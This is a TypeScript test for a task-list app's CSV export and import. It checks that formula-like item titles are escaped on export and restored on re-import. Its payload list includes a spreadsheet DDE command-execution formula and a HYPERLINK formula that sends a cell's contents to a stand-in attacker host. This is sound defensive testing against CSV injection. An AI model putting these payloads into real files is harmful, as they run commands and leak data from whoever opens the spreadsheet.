import { aPerson, type PluginInstance } from '../../../../apps/runtime/test/support/plugins/plugin-instance';
import { parse } from 'csv-parse/sync';
import { startTasks } from './support/start-tasks';

/** Somebody writes a formula into a shared list. Who exports the list opens the file in a spreadsheet, which runs it. */
describe('a formula in a task', () => {
  let tasks: PluginInstance;
  beforeAll(async () => {
    tasks = await startTasks();
  });
  afterAll(() => tasks.close());

  const FORMULAS = [
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '+1+cmd()',
    '-2+3',
    '@SUM(1+9)',
    `'=1+1`,
    '; =1+1',
    '"=1+1',
  ];

  it('begins no cell of the table, and is there again when the table comes back', async () => {
    const ada = tasks.as(aPerson());
    const { body: list } = await ada.post('/tasks/api/lists').send({ name: '=1+1' }).expect(201);
    const at = `/tasks/api/lists/${list.id}`;
    for (const title of FORMULAS) await ada.post(`${at}/items`).send({ title, notes: title }).expect(201);
    const { text } = await ada.get(`${at}/export?format=csv`).buffer().expect(200);
    const cells = (parse(text, { bom: true }) as string[][]).flat();
    expect(cells.filter(cell => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("https://evil.example?"&A1,"Click")`);

    const { body } = await ada.post('/tasks/api/import').send({ fileName: 'back.csv', text }).expect(201);
    const back = (await ada.get(`/tasks/api/lists/${body.listId}/items?limit=50`).expect(200)).body.items;
    const texts = back.map(({ title, notes }: { title: string; notes: string }) => [title, notes]);
    expect(texts).toEqual(FORMULAS.map(formula => [formula, formula]));
  });
});
